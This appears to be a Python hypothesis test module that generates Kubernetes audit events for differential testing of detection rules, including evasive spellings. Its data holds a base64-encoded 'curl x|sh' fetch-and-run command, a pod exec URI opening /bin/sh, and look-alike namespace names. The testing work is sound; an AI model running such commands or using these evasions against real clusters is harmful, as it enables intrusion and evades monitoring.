"""Generated audit-event documents for the differential tests (hypothesis): the values the differential
rules look at, in the spellings that trip engines (case, look-alike names, encoded payloads)."""

from __future__ import annotations

import base64

from hypothesis import strategies as st


def _case(s: str) -> st.SearchStrategy[str]:
    return st.sampled_from([s, s.upper(), s.capitalize()])


NAMES = ["alice@example.com", "system:serviceaccount:kube-system:foo", "bob", "web", "kubelet"]
URIS = [
    "/api/v1/namespaces/default/pods/web/exec?command=%2Fbin%2Fsh&stdin=true&-it",
    "/api/v1/namespaces/kube-system/pods/x/exec?command=ls",
    "/api/v1/secrets?watch=true",
    "/apis/apps/v1/deployments",
    "/api/v1/namespaces/kube-system/configmaps/c",
    "/healthz",
]
PAYLOADS = [base64.b64encode(p.encode()).decode() for p in ("sh -c 'curl x|sh'", "xcurl y", "hello", "curl ")]

EVENTS = st.fixed_dictionaries(
    {
        "kind": st.just("Event"),
        "verb": st.one_of(
            st.sampled_from(["get", "list", "create", "delete", "update", "patch"]).flatmap(_case)
        ),
        "requestURI": st.sampled_from(URIS).flatmap(lambda u: st.sampled_from([u, u.upper()])),
        "userAgent": st.sampled_from(
            ["kubectl/v1.29.0", "curl/8.0", "Go-http-client/2.0", "KUBECTL/1", "xcurl/1"]
        ),
        "user": st.fixed_dictionaries({"username": st.sampled_from(NAMES).flatmap(_case)}),
        "objectRef": st.fixed_dictionaries(
            {"resource": st.sampled_from(["pods", "secrets", "configmaps", "Secrets"])},
            optional={
                "namespace": st.sampled_from(["default", "kube-system", "kube-Xystem", "kube-ssystem"]),
                "name": st.one_of(st.none(), st.sampled_from(NAMES)),
                "subresource": st.one_of(st.none(), st.just("exec")),
            },
        ),
        "responseStatus": st.fixed_dictionaries({"code": st.sampled_from([200, 201, 401, 403, 404, 500])}),
        "annotations": st.fixed_dictionaries(
            {"authorization.k8s.io/decision": st.sampled_from(["allow", "forbid", "ALLOW"])}
        ),
    },
    optional={
        "requestObject": st.fixed_dictionaries(
            {"data": st.fixed_dictionaries({"payload": st.sampled_from(PAYLOADS)})}
        )
    },
)
